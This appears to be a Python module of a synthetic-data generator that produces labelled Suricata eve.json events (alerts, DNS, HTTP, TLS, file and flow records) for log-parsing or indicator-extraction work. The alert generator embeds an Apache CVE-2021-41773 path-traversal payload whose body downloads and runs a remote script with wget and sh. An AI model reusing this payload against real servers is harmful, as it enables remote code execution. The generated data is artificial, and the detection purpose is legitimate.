"""Suricata eve.json: alert, dns, http, tls, fileinfo and flow events."""

from __future__ import annotations

import base64
import json
from typing import Any

from .core import Lines, Synth, register
from .labels import Labels, cve, hashes, host, ip, mail, url

SIGNATURES = [  # (signature, CVE id or "", category)
    ("ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "CVE-2021-44228",
     "Attempted Administrator Privilege Gain"),
    ("ET WEB_SERVER Possible CVE-2014-6271 Attempt in Headers", "CVE-2014-6271",
     "Attempted Administrator Privilege Gain"),
    ("ET EXPLOIT F5 TMUI RCE vulnerability CVE-2020-5902 Attempt M1", "CVE-2020-5902",
     "Attempted Administrator Privilege Gain"),
    ("ET EXPLOIT Apache HTTP Server 2.4.49 - Path Traversal Attempt (CVE-2021-41773) M1",
     "CVE-2021-41773", "Attempted Administrator Privilege Gain"),
    ("ET EXPLOIT Possible Atlassian Confluence OGNL Injection (CVE-2022-26134)", "CVE-2022-26134",
     "Attempted Administrator Privilege Gain"),
    ("ET SCAN Suspicious inbound to mySQL port 3306", "", "Potentially Bad Traffic"),
    ("ET SCAN NMAP -sS window 1024", "", "Attempted Information Leak"),
    ("ET CINS Active Threat Intelligence Poor Reputation IP group 42", "", "Misc Attack"),
    ("ET POLICY Python-urllib/ Suspicious User Agent", "", "Attempted Information Leak"),
    ("ET MALWARE Cobalt Strike Beacon Observed", "", "A Network Trojan was detected"),
    ("ET INFO Observed DNS Query to .top TLD", "", "Potentially Bad Traffic"),
    ("SURICATA STREAM ESTABLISHED packet out of window", "", "Generic Protocol Command Decode"),
]
ISSUERS = [("C=US, O=Let's Encrypt, CN=R3", set()),
           ("C=US, O=Google Trust Services LLC, CN=GTS CA 1C3", set()),
           ("C=US, O=DigiCert Inc, OU=www.digicert.com, CN=DigiCert Global G2 TLS RSA SHA256 2020 CA1",
            host("www.digicert.com"))]
FILES = [("/downloads/setup.exe", "PE32 executable (GUI) Intel 80386, for MS Windows"),
         ("/files/report.pdf", "PDF document, version 1.7"),
         ("/wp-content/uploads/2024/03/backup.zip", "Zip archive data, at least v2.0 to extract"),
         ("/update/flash_install.msi", "Composite Document File V2 Document"),
         ("/static/js/app.7c1e0b.js", "ASCII text, with very long lines")]
OUR_SERVER = "10.0.0.10"
RESOLVER = "10.0.0.53"


def _base(s: Synth, event: str, src: str, dst: str, dport: int) -> dict[str, Any]:
    return {"timestamp": s.tick().strftime("%Y-%m-%dT%H:%M:%S.%f+0000"),
            "flow_id": s.rng.randrange(10**15, 10**16), "in_iface": "ens192", "event_type": event,
            "src_ip": src, "src_port": s.port(), "dest_ip": dst, "dest_port": dport,
            "proto": "UDP" if dport == 53 else "TCP",
            "community_id": "1:" + base64.b64encode(s.rng.randbytes(20)).decode(), "host": "ids01"}


def _alert(s: Synth) -> tuple[dict[str, Any], Labels]:
    src = s.pick("public_ip")
    sig, cve_id, category = s.rng.choice(SIGNATURES)
    ev = _base(s, "alert", src, OUR_SERVER, 80)
    meta: dict[str, list[str]] = {"signature_severity": ["Major"], "updated_at": ["2023_11_02"]}
    labels = ip(src) | ip(OUR_SERVER)
    if cve_id:
        meta["cve"] = [cve_id.replace("-", "_")]
        labels |= cve(cve_id)
    ev["alert"] = {"action": "allowed", "gid": 1, "signature_id": s.rng.randrange(2000000, 2050000),
                   "rev": s.rng.randrange(1, 9), "signature": sig, "category": category,
                   "severity": s.rng.randrange(1, 4), "metadata": meta}
    if cve_id == "CVE-2021-41773":
        ev["app_proto"] = "http"
        ev["http"] = {"hostname": OUR_SERVER, "url": "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
                      "http_user_agent": "curl/7.68.0", "http_method": "POST", "protocol": "HTTP/1.1",
                      "status": 200, "length": 0}
        ev["payload_printable"] = ("POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: "
                                   f"{OUR_SERVER}\r\n\r\necho; cd /tmp; wget http://{src}/bins.sh; sh bins.sh")
        labels |= url(f"http://{src}/bins.sh")
    return ev, labels


def _dns(s: Synth) -> tuple[dict[str, Any], Labels]:
    client = s.pick("private_ip")
    ev = _base(s, "dns", client, RESOLVER, 53)
    labels = ip(client) | ip(RESOLVER)
    roll = s.rng.random()
    if roll < 0.08:
        name, labels2 = f"{s.rng.randrange(1, 255)}.{s.rng.randrange(256)}.0.10.in-addr.arpa", set()
        rrtype = "PTR"
    elif roll < 0.14:
        name, labels2, rrtype = s.pick("not_domain"), set(), "A"
    else:
        name = s.pick("bad_domain") if s.chance(0.4) else s.pick("benign_domain")
        labels2, rrtype = host(name), s.rng.choice(["A", "A", "AAAA"])
    labels |= labels2
    if s.chance(0.5):
        ev["dns"] = {"type": "query", "id": s.rng.randrange(65536), "rrname": name, "rrtype": rrtype,
                     "tx_id": 0, "opcode": 0}
        return ev, labels
    ev["src_ip"], ev["dest_ip"] = RESOLVER, client
    answers = []
    if rrtype == "A" and labels2:
        addr = s.pick("public_ip")
        answers.append({"rrname": name, "rrtype": "A", "ttl": s.rng.randrange(30, 3600), "rdata": addr})
        labels |= ip(addr)
    elif rrtype == "AAAA":
        addr = s.pick("ipv6")
        answers.append({"rrname": name, "rrtype": "AAAA", "ttl": 300, "rdata": addr})
        labels |= ip(addr)
    if answers and s.chance(0.3):
        target = s.pick("benign_domain")
        answers.insert(0, {"rrname": name, "rrtype": "CNAME", "ttl": 300, "rdata": target})
        labels |= host(target)
    ev["dns"] = {"version": 2, "type": "answer", "id": s.rng.randrange(65536), "flags": "8180",
                 "qr": True, "rd": True, "ra": True, "rrname": name, "rrtype": rrtype,
                 "rcode": "NOERROR" if answers else "NXDOMAIN", "answers": answers}
    return ev, labels


def _http(s: Synth, event: str = "http") -> tuple[dict[str, Any], Labels]:
    client, server = s.pick("private_ip"), s.pick("public_ip")
    ev = _base(s, event, client, server, 80)
    labels = ip(client) | ip(server)
    hostname = s.pick("bad_domain") if s.chance(0.5) else server
    labels |= host(hostname)
    agent, ua_urls, ua_mails = s.pick("ua")
    for u in ua_urls:
        labels |= url(u)
    for m in ua_mails:
        labels |= mail(m)
    path = s.pick("path")
    if s.chance(0.15):
        path = f"/index.php?PHPSESSID={s.hex(32)}"
    http: dict[str, Any] = {"hostname": hostname, "url": path, "http_user_agent": agent,
                            "http_content_type": "text/html", "http_method": "GET",
                            "protocol": "HTTP/1.1", "status": 200, "length": s.rng.randrange(50, 9000)}
    ref, ref_labels = s.pick("referer")
    if ref != "-":
        http["http_refer"] = ref
        labels |= ref_labels
    if s.chance(0.2):
        target = f"https://{hostname}/login?session={s.hex(12)}"
        http["status"], http["redirect"] = 302, target
        labels |= url(target)
    ev["http"], ev["app_proto"] = http, "http"
    return ev, labels


def _tls(s: Synth) -> tuple[dict[str, Any], Labels]:
    client, server = s.pick("private_ip"), s.pick("public_ip")
    ev = _base(s, "tls", client, server, 443)
    sni = s.pick("bad_domain") if s.chance(0.5) else s.pick("benign_domain")
    issuer, ilabels = s.rng.choice(ISSUERS)
    subject = f"CN={sni}"
    labels = ip(client) | ip(server) | host(sni) | ilabels
    if s.chance(0.15):
        subject = "C=US, ST=California, L=Mountain View, O=Google LLC, CN=*.google.com"
        labels |= host("google.com")
    ev["tls"] = {"subject": subject, "issuerdn": issuer,
                 "serial": ":".join(s.hex(2).upper() for _ in range(16)),
                 "fingerprint": ":".join(s.hex(2) for _ in range(20)), "sni": sni,
                 "version": s.rng.choice(["TLS 1.2", "TLS 1.3"]),
                 "notbefore": "2024-01-02T00:00:00", "notafter": "2024-04-01T23:59:59"}
    return ev, labels


def _fileinfo(s: Synth) -> tuple[dict[str, Any], Labels]:
    ev, labels = _http(s, "fileinfo")
    name, magic = s.rng.choice(FILES)
    ev["http"]["url"] = name
    md5, sha1, sha256 = s.hex(32), s.hex(40), s.hex(64)
    ev["fileinfo"] = {"filename": name, "magic": magic, "gaps": False, "state": "CLOSED",
                      "md5": md5, "sha1": sha1, "sha256": sha256, "stored": False,
                      "size": s.rng.randrange(1000, 900000), "tx_id": 0}
    return ev, labels | hashes(md5, sha1, sha256)


def _flow(s: Synth) -> tuple[dict[str, Any], Labels]:
    src = s.pick("public_ip") if s.chance(0.7) else s.pick("ipv6")
    ev = _base(s, "flow", src, OUR_SERVER, s.rng.choice([22, 23, 445, 3389, 5900]))
    ev["flow"] = {"pkts_toserver": 2, "pkts_toclient": 1, "bytes_toserver": 120, "bytes_toclient": 60,
                  "start": ev["timestamp"], "end": ev["timestamp"], "age": 0, "state": "closed",
                  "reason": "timeout", "alerted": False}
    return ev, ip(src) | ip(OUR_SERVER)


EVENTS = [(_alert, 0.25), (_dns, 0.55), (_http, 0.70), (_tls, 0.80), (_fileinfo, 0.88), (_flow, 1.0)]


@register("eve", "eve.json", [
    ('{"timestamp":"2024-03-12T06:55:00.000000+0000","event_type":"dns","src_ip":"10.0.0.53",'
     '"dest_ip":"10.0.1.23","dns":{"type":"answer","rrname":"wpad.corp.internal","rrtype":"A",'
     '"rcode":"NXDOMAIN"}}', ip("10.0.0.53") | ip("10.0.1.23")),
    ('{"timestamp":"2024-03-12T06:56:00.000000+0000","event_type":"alert","src_ip":"fe80::1",'
     '"dest_ip":"ff02::1:2","alert":{"signature":"ET INFO DHCPv6 Solicit from 00:1a:2b:3c:4d:5e '
     'at 12:34:56","category":"Not Suspicious Traffic"}}', ip("fe80::1") | ip("ff02::1:2")),
    ('{"timestamp":"2024-03-12T06:57:00.000000+0000","event_type":"fileinfo","src_ip":"104.21.3.7",'
     '"dest_ip":"10.0.1.44","fileinfo":{"filename":"/workers2.properties","md5":'
     '"D41D8CD98F00B204E9800998ECF8427E","size":0}}',
     ip("104.21.3.7") | ip("10.0.1.44") | hashes("d41d8cd98f00b204e9800998ecf8427e")),
])
def eve(s: Synth) -> Lines:
    roll = s.rng.random()
    for func, upper in EVENTS:
        if roll < upper:
            ev, labels = func(s)
            return [(json.dumps(ev, separators=(",", ":")), labels)]
    raise AssertionError("unreachable")
